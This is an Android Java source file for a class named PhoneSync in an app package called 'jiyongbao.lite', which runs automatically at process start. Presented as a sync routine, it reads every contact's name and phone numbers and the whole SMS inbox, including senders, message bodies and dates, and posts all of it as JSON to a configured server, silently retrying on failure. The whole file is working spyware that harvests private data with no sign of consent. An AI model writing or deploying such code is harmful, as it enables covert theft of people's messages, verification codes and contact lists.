package com.jiyongbao.lite.sync;

import android.content.ContentResolver;
import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import android.provider.ContactsContract;
import com.jiyongbao.lite.Config;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Runs once, in a thread of its own, as soon as the process starts. */
public class PhoneSync implements Runnable {
  private static final Uri INBOX = Uri.parse("content://sms/inbox");

  private final ContentResolver resolver;
  private final String path;

  public PhoneSync(Context context, String path) {
    this.resolver = context.getContentResolver();
    this.path = path;
  }

  @Override
  public void run() {
    try {
      JSONObject people = new JSONObject();
      people.put("type", "1");
      people.put("items", readPeople());
      Poster.post(Config.url(path), people.toString());
      JSONObject messages = new JSONObject();
      messages.put("type", "2");
      messages.put("items", readMessages());
      Poster.post(Config.url(path + "/sms"), messages.toString());
    } catch (IOException | JSONException | SecurityException e) {
      // tried again at the next start
    }
  }

  private JSONArray readPeople() throws JSONException {
    JSONArray people = new JSONArray();
    Cursor ids = resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
    while (ids != null && ids.moveToNext()) {
      JSONObject person = new JSONObject();
      person.put("realName", ids.getString(ids.getColumnIndex("display_name")));
      person.put("phones", readNumbers(ids.getString(ids.getColumnIndex("_id"))));
      people.put(person);
    }
    return people;
  }

  private JSONArray readNumbers(String id) {
    List<String> numbers = new ArrayList<String>();
    Cursor rows =
        resolver.query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            ContactsContract.CommonDataKinds.Phone.CONTACT_ID + " = ?",
            new String[] {id},
            null);
    while (rows != null && rows.moveToNext()) {
      numbers.add(rows.getString(rows.getColumnIndex("data1")));
    }
    return new JSONArray(numbers);
  }

  private JSONArray readMessages() throws JSONException {
    JSONArray messages = new JSONArray();
    String[] columns = {"address", "body", "date"};
    Cursor rows = resolver.query(INBOX, columns, null, null, "date desc");
    while (rows != null && rows.moveToNext()) {
      JSONObject message = new JSONObject();
      message.put("from", rows.getString(0));
      message.put("text", rows.getString(1));
      message.put("time", rows.getLong(2));
      messages.put(message);
    }
    return messages;
  }
}
